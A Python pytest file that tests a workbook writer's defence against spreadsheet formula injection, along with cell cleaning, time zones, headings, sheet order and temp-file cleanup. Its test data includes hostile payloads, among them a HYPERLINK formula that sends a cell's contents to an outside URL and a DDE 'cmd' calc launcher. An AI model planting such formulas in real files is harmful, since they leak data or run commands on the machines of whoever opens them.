"""Workbooks written and read back: text stays text, whoever wrote the name."""

import io
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from lucy.workbook import Value, Workbook

CORDOBA = ZoneInfo("America/Argentina/Cordoba")


@pytest.fixture(autouse=True)
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where temporary files go."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def written(*rows: tuple[Value, ...], heading: tuple[str, ...] = ()) -> bytes:
    with Workbook(CORDOBA) as book:
        book.sheet("Hoja", widths=(20, 30), heading=heading).add(rows)
        return book.content()


def read(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))["Hoja"]


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        '=HYPERLINK("https://x.org?"&A1,"Pérez")',
        "+54 358 4000000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "=",
        "#N/A",
        "＝1+1",
    ],
)
def test_no_name_is_run(name: str) -> None:
    content = written((name, "Ana"))
    cell = read(content)["A1"]
    assert cell.data_type == "s"
    assert cell.value.strip() == name.strip()
    assert cell.quotePrefix, "or it would run once somebody edits it"
    with ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", ["Núñez, O'Higgins", "0012345", "40123456", "1e5", "24/11", "TRUE", "Ñ=1", "a\nb"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    cell = read(written((text,)))["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_a_heading_that_would_run_is_text_too() -> None:
    cell = read(written(("x",), heading=("=1+1", "Nombre")))["A1"]
    assert (cell.value, cell.data_type, cell.font.bold) == ("=1+1", "s", True)


def test_what_no_sheet_can_hold_is_left_out() -> None:
    assert read(written(("Pé\x00rez\x0b",)))["A1"].value == "Pérez"
    assert len(read(written(("á" * 40_000,)))["A1"].value) == 32_767


def test_times_are_local_and_numbers_are_numbers() -> None:
    sheet = read(written((datetime(2026, 11, 25, 2, 12, 9, 999, tzinfo=UTC), 37, None)))
    assert sheet["A1"].value == datetime(2026, 11, 24, 23, 12, 9)  # noqa: DTZ001 - a spreadsheet knows no zones
    assert sheet["A1"].number_format == "dd/mm/yyyy hh:mm"
    assert (sheet["B1"].value, sheet["B1"].data_type) == (37, "n")
    assert sheet["C1"].value is None


def test_the_heading_stays_in_sight_and_filters() -> None:
    sheet = read(written(("a", "b"), ("c", "d"), heading=("Apellido", "Nombre")))
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B3")
    assert sheet.column_dimensions["B"].width == 30
    assert [cell.value for cell in sheet[3]] == ["c", "d"]


def test_sheets_keep_their_order_however_they_are_filled() -> None:
    with Workbook(CORDOBA) as book:
        first, second = book.sheet("Uno", widths=()), book.sheet("Dos", widths=())
        second.add([("b",)])
        first.add([("a",)])
        content = book.content()
    read_back = openpyxl.load_workbook(io.BytesIO(content))
    assert read_back.sheetnames == ["Uno", "Dos"]
    assert [read_back[name]["A1"].value for name in read_back.sheetnames] == ["a", "b"]


def test_nothing_is_left_on_the_disk(place: Path) -> None:
    written(("a",))
    assert list(place.iterdir()) == []
    with pytest.raises(RuntimeError, match="in the middle"), Workbook(CORDOBA) as book:
        book.sheet("Vacía", widths=())
        book.sheet("Hoja", widths=(), heading=("a",)).add([("Pérez",)])
        (rows,) = list(place.iterdir())
        assert rows.stat().st_mode & 0o077 == 0, "for nobody else to read meanwhile"
        raise RuntimeError("in the middle")
    assert list(place.iterdir()) == []
